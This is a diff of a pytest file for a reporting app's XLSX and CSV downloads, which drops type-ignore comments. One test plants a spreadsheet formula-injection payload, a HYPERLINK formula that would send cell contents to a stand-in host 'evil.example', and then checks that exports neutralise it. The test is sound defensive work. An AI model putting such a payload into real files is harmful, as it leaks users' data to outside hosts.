@@ -19,7 +19,7 @@ DAY1, DAY2 = dt.date(2023, 4, 11), dt.date(2023, 4, 12)
 
 
 @pytest.fixture
-def action(rwe):  # type: ignore[no-untyped-def]
+def action(rwe):
     action = make_action()
     make_return(action, rwe, DAY1, elective_rescheduled=165, outpatient_rescheduled=2133, community_rescheduled=4,
                 mental_health_rescheduled=1, staff_absent=700, staff_due=1900)
@@ -30,13 +30,13 @@ def action(rwe):  # type: ignore[no-untyped-def]
     return action
 
 
-def _sheet_rows(workbook, name: str) -> tuple[list[str], dict[str, dict]]:  # type: ignore[no-untyped-def]
+def _sheet_rows(workbook, name: str) -> tuple[list[str], dict[str, dict]]:
     rows = list(workbook[name].iter_rows(values_only=True))
     header = list(rows[1])
     return header, {r[0]: dict(zip(header, r, strict=True)) for r in rows[2:]}
 
 
-def test_xlsx_is_publication_ready_with_a_sheet_per_level_totals_statuses_and_metadata(client, nia, action) -> None:  # type: ignore[no-untyped-def]
+def test_xlsx_is_publication_ready_with_a_sheet_per_level_totals_statuses_and_metadata(client, nia, action) -> None:
     client.force_login(nia)
     response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
     assert response.status_code == 200
@@ -88,7 +88,7 @@ def test_xlsx_is_publication_ready_with_a_sheet_per_level_totals_statuses_and_me
     assert coverage == [("2023-04-11", expected, 2)]
 
 
-def test_csv_is_rectangular_with_statuses_and_empty_cells_for_missing_figures(client, nia, action) -> None:  # type: ignore[no-untyped-def]
+def test_csv_is_rectangular_with_statuses_and_empty_cells_for_missing_figures(client, nia, action) -> None:
     client.force_login(nia)
     response = client.get(f"/reports/actions/{action.slug}/download.csv")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
@@ -116,7 +116,7 @@ def test_safe_text_neutralises_formula_triggers(value: str) -> None:
     assert safe_text("University Hospitals") == "University Hospitals"
 
 
-def test_downloads_are_safe_against_formula_injection(client, nia, action) -> None:  # type: ignore[no-untyped-def]
+def test_downloads_are_safe_against_formula_injection(client, nia, action) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     Trust.objects.filter(ods_code="RWE").update(name=evil)
     Trust.objects.filter(ods_code="RX1").update(name="@SUM(1+1)")
@@ -138,7 +138,7 @@ def test_downloads_are_safe_against_formula_injection(client, nia, action) -> No
     assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
 
 
-def test_a_regional_download_holds_only_the_regions_trusts(client, morgan, action) -> None:  # type: ignore[no-untyped-def]
+def test_a_regional_download_holds_only_the_regions_trusts(client, morgan, action) -> None:
     make_return(action, "RJ1", DAY1, elective_rescheduled=5)
     client.force_login(morgan)
     response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
